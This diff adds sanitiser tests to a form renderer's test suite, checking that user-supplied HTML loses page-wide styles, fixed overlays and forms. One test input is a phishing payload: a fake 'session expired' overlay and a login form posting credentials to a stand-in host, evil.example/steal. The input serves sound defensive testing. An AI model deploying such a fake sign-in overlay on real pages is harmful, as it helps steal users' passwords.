@@ -131,6 +131,61 @@ describe('items without a value', () => {
     expect(html.querySelector('a')?.getAttribute('href')).toBeNull();
   });
 
+  it('keeps html to formatting: no page-wide <style>, no fixed overlay, no fake sign-in form', () => {
+    const { container } = renderForm({
+      list: [
+        {
+          type: 'html',
+          key: 'html_1',
+          label: '',
+          options: {
+            defaultValue:
+              '<style>body{display:none}</style>' +
+              '<div class="ant-modal-mask" id="app" style="position:fixed;inset:0;z-index:9999;color:red;padding:8px">会话已过期，请重新登录</div>' +
+              '<form action="https://evil.example/steal"><input name="user"><input type="password" name="pwd"><button>登录</button></form>' +
+              '<p style="transform:translate(0,-500px);font-weight:bold">公告</p><a href="https://example.com" target="_top">链接</a>',
+          },
+        },
+      ],
+    });
+    const html = container.querySelector('.fr-html')!;
+    expect(html.querySelector('style, form, input, button')).toBeNull();
+    const overlay = html.querySelector('div')!;
+    expect(overlay.textContent).toBe('会话已过期，请重新登录');
+    expect(overlay.getAttribute('class')).toBeNull();
+    expect(overlay.getAttribute('id')).toBeNull();
+    expect(overlay.getAttribute('style')).toBe('color: red; padding: 8px');
+    expect(html.querySelector('p')!.getAttribute('style')).toBe('font-weight: bold');
+    const link = html.querySelector('a')!;
+    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
+    expect(link.getAttribute('target')).toBeNull();
+  });
+
+  it('keeps the inline styles of layout containers in their place', () => {
+    const { container } = renderForm({
+      list: [
+        {
+          type: 'table',
+          key: 'table_1',
+          label: '',
+          options: { customStyle: 'position: fixed; top: 0; z-index: 10000; background-color: #fff' },
+          trs: [
+            {
+              tds: [{ colspan: 1, rowspan: 1, style: 'position:absolute;left:-9999px;color:blue', list: [] }],
+            },
+          ],
+        },
+      ],
+    });
+    const table = container.querySelector('table')! as HTMLElement;
+    expect(table.style.position).toBe('');
+    expect(table.style.zIndex).toBe('');
+    expect(table.style.backgroundColor).toBe('rgb(255, 255, 255)');
+    const cell = container.querySelector('td')! as HTMLElement;
+    expect(cell.style.position).toBe('');
+    expect(cell.style.color).toBe('blue');
+  });
+
   it('renders alert title and description, divider text, text and button', () => {
     renderForm({
       list: [
